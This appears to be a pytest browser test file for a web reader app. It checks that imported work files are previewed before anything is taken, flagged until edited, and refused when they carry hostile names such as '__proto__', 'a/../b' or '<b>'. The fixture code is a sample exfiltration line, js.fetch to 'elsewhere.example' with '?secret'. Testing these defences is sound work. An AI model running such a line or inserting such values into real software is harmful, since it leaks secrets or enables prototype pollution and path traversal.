"""Somebody's work out of a file: shown before it is taken, marked until it is edited, refused where it is damaged."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import lanes
import pytest
from live_pages import Opened, chromium, served

NAME = "nfc/01_slow_link"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.needs("live", "chromium", "playwright"),
]

IMPORTED = "import js\njs.fetch('https://elsewhere.example/?secret')"


def _file(cell: str, **more: Any) -> str:
    text = {cell: {"source": IMPORTED, "of": "x"}}
    other = {"text": {"a": {"source": "1", "of": ""}}, "done": {}}
    chapters = {NAME: {"text": text, "done": {}}, "echo/01_adaptive_filters": other}
    return json.dumps({"format": "voicewire-reader-1", "chapters": chapters | more})


def _imports(opened: Opened, path: Path) -> None:
    opened.page.locator(".vw-work").evaluate("fold => { fold.open = true }")
    with opened.page.expect_file_chooser() as asked:
        opened.page.get_by_role("button", name="Import a file").click()
    asked.value.set_files(path)


def test_an_imported_text_is_shown_and_taken_only_by_a_click_and_marked_until_edited(tmp_path: Path) -> None:
    with served() as server, chromium() as browser:
        opened = Opened(browser.new_context(), server.address, NAME)
        opened.click()
        number = next(cell["number"] for cell in opened.cells if cell["runs"])
        cell = opened.cells[number - 1]["id"]
        file = tmp_path / "work.json"
        file.write_text(_file(cell), encoding="utf-8")
        for choice in ("Leave them", "Take them"):
            _imports(opened, file)
            asked = opened.page.get_by_role("group", name="What the file would bring")
            asked.wait_for()
            assert IMPORTED in asked.inner_text() and "echo/01_adaptive_filters, cell a" in asked.inner_text()
            assert opened.page.evaluate("Object.keys(localStorage).filter(key => key.startsWith('voicewire:'))") == []
            opened.page.get_by_role("button", name=choice).click()
            assert asked.is_hidden()
        assert opened.kept()["text"][cell]["imported"] is True
        opened.reload()
        opened.click()
        mark = opened.cell(number).locator(".vw-imported")
        mark.wait_for()
        assert mark.inner_text() == "From a file: read it before you run it."
        opened.write(number, "1")
        assert mark.count() == 0 and "imported" not in opened.kept()["text"][cell]


@pytest.mark.parametrize("name", lanes.sampled(["__proto__", "a/../b", "nfc/01 slow", "", "nfc/<b>"], 2))
def test_a_file_with_names_that_are_none_is_refused(name: str, tmp_path: Path) -> None:
    with served() as server, chromium() as browser:
        opened = Opened(browser.new_context(), server.address, NAME)
        opened.click()
        file = tmp_path / "work.json"
        for text in (_file("a", **{name: {"text": {}, "done": {}}}), _file(name)):
            file.write_text(text, encoding="utf-8")
            _imports(opened, file)
            opened.page.get_by_text("This file is damaged: nothing was taken from it.").wait_for()
            assert opened.kept() == {"text": {}, "done": {}}
